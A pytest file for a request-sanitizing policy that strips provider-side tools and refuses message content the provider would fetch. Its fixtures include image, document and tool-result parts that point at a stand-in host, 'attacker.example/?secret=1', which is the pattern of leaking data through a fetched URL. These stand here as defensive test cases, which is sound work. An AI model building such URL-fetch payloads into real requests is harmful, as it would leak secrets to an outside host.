"""RequestPolicy on the tools of a request (client tools kept, the provider's own dropped unless allowed, a
tool choice naming a dropped tool removed) and on content the provider would fetch (refused unless allowed)."""

from __future__ import annotations

from typing import Any

import pytest

from runner.channel.llm_policy import RequestPolicy
from tests.runner.channel.llm_policy_helpers import (
    ANTHROPIC,
    ANTHROPIC_BASH,
    ANTHROPIC_CUSTOM,
    ANTHROPIC_TOOLS,
    ANTHROPIC_WEB_SEARCH,
    CHAT_POLICIES,
    MODEL,
    OPENAI,
    OPENAI_BASH,
    OPENAI_TOOLS,
    body,
    refused,
    sanitize,
)

# --- tools -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("policy", CHAT_POLICIES)
def test_openai_keeps_function_tools_only(policy: RequestPolicy) -> None:
    tools = [
        OPENAI_BASH,
        {"type": "web_search"},
        {"type": "custom", "custom": {"name": "x"}},
        {"function": {"name": "untyped"}},
    ]
    result = sanitize(policy, body(tools=tools, tool_choice="auto"))
    assert result.payload["tools"] == [OPENAI_BASH]
    assert result.payload["tool_choice"] == "auto"
    assert set(result.dropped) == {"tools[web_search]", "tools[custom]", "tools[NoneType]"}


def test_anthropic_keeps_client_tools_only() -> None:
    server_tools: list[dict[str, Any]] = [
        ANTHROPIC_WEB_SEARCH,
        {"type": "web_fetch_20250910", "name": "web_fetch"},
        {"type": "code_execution_20250825", "name": "code_execution"},
        {"type": "mcp_toolset", "mcp_server_name": "x"},
    ]
    result = sanitize(ANTHROPIC, body(tools=[ANTHROPIC_BASH, *server_tools, ANTHROPIC_CUSTOM]))
    assert result.payload["tools"] == [ANTHROPIC_BASH, ANTHROPIC_CUSTOM]
    assert set(result.dropped) == {f"tools[{tool['type']}]" for tool in server_tools}


def test_a_tool_choice_naming_a_dropped_tool_is_removed() -> None:
    openai = sanitize(
        OPENAI,
        body(
            tools=[OPENAI_BASH, {"type": "web_search_preview"}],
            tool_choice={"type": "function", "function": {"name": "web_search"}},
        ),
    )
    assert "tool_choice" not in openai.payload
    assert "tool_choice" in openai.dropped
    anthropic = sanitize(
        ANTHROPIC,
        body(tools=[ANTHROPIC_BASH, ANTHROPIC_WEB_SEARCH], tool_choice={"type": "tool", "name": "web_search"}),
    )
    assert "tool_choice" not in anthropic.payload
    assert set(anthropic.dropped) == {"tools[web_search_20250305]", "tool_choice"}


def test_a_tool_choice_naming_a_kept_tool_stays() -> None:
    choice = {"type": "function", "function": {"name": "bash"}}
    assert sanitize(OPENAI, body(tools=[OPENAI_BASH], tool_choice=choice)).payload["tool_choice"] == choice
    for anthropic_choice in [{"type": "tool", "name": "bash"}, {"type": "any"}, {"type": "auto"}]:
        payload = sanitize(ANTHROPIC, body(tools=[ANTHROPIC_BASH], tool_choice=anthropic_choice)).payload
        assert payload["tool_choice"] == anthropic_choice


def test_an_unhashable_tool_name_is_not_a_match() -> None:
    choice = {"type": "tool", "name": ["bash"]}
    assert "tool_choice" not in sanitize(ANTHROPIC, body(tools=[ANTHROPIC_BASH], tool_choice=choice)).payload


def test_when_no_tool_is_left_the_tool_settings_go_too() -> None:
    asked = body(tools=[{"type": "web_search"}], tool_choice="required", parallel_tool_calls=True)
    result = sanitize(OPENAI, asked)
    assert not {"tools", "tool_choice", "parallel_tool_calls"} & set(result.payload)
    assert set(result.dropped) == {"tools[web_search]", "tools", "tool_choice", "parallel_tool_calls"}


def test_provider_tools_survive_when_allowed() -> None:
    openai_tools = [OPENAI_BASH, {"type": "web_search"}]
    openai_choice = {"type": "web_search"}
    openai = sanitize(OPENAI_TOOLS, body(tools=openai_tools, tool_choice=openai_choice))
    assert (openai.payload["tools"], openai.payload["tool_choice"], openai.dropped) == (openai_tools, openai_choice, ())
    choice = {"type": "tool", "name": "web_search"}
    anthropic = sanitize(ANTHROPIC_TOOLS, body(tools=[ANTHROPIC_WEB_SEARCH], tool_choice=choice))
    assert anthropic.payload["tools"] == [ANTHROPIC_WEB_SEARCH]
    assert anthropic.payload["tool_choice"] == choice


@pytest.mark.parametrize("policy", [OPENAI, ANTHROPIC])
@pytest.mark.parametrize("tools", [{"type": "function"}, "bash", [OPENAI_BASH, "web_search"]])
def test_malformed_tools_are_refused(policy: RequestPolicy, tools: object) -> None:
    assert refused(policy, body(tools=tools)).status == 400


# --- content the provider would fetch --------------------------------------------------------------------


FETCHING_PARTS: list[tuple[RequestPolicy, dict[str, Any]]] = [
    (OPENAI, {"type": "image_url", "image_url": {"url": "https://attacker.example/?secret=1"}}),
    (OPENAI, {"type": "image_url", "image_url": "https://attacker.example/"}),
    (OPENAI, {"type": "file", "file": {"file_id": "file-operators-own"}}),
    (ANTHROPIC, {"type": "image", "source": {"type": "url", "url": "https://attacker.example/x.png"}}),
    (ANTHROPIC, {"type": "document", "source": {"type": "url", "url": "https://attacker.example/x.pdf"}}),
    (ANTHROPIC, {"type": "document", "source": {"type": "file", "file_id": "file_1"}}),
    (ANTHROPIC, {"type": "container_upload", "file_id": "file_1"}),
    (
        ANTHROPIC,
        {
            "type": "tool_result",
            "tool_use_id": "t1",
            "content": [{"type": "image", "source": {"type": "url", "url": "https://attacker.example/"}}],
        },
    ),
]


@pytest.mark.parametrize(("policy", "part"), FETCHING_PARTS)
def test_content_the_provider_would_fetch_is_refused(policy: RequestPolicy, part: dict[str, Any]) -> None:
    payload = body(messages=[{"role": "user", "content": [{"type": "text", "text": "look"}, part]}])
    error = refused(policy, payload)
    assert (error.status, error.error_type) == (400, "invalid_request")
    assert "SUBAGENT_ALLOW_PROVIDER_TOOLS" in error.message
    allowed = RequestPolicy(policy.provider, MODEL, allow_provider_tools=True)
    assert sanitize(allowed, payload).payload["messages"] == payload["messages"]


@pytest.mark.parametrize(
    ("policy", "part"),
    [
        (OPENAI, {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}),
        (ANTHROPIC, {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "iVBO"}}),
        (ANTHROPIC, {"type": "text", "text": "https://example.com is just text"}),
    ],
)
def test_inline_content_passes(policy: RequestPolicy, part: dict[str, Any]) -> None:
    payload = body(messages=[{"role": "user", "content": [part]}])
    assert sanitize(policy, payload).payload["messages"] == payload["messages"]


def test_deeply_nested_content_is_scanned_without_recursion() -> None:
    nested: Any = {"type": "image", "source": {"type": "url", "url": "https://attacker.example/"}}
    for _ in range(50_000):
        nested = [nested]
    assert refused(ANTHROPIC, body(messages=[{"role": "user", "content": nested}])).status == 400
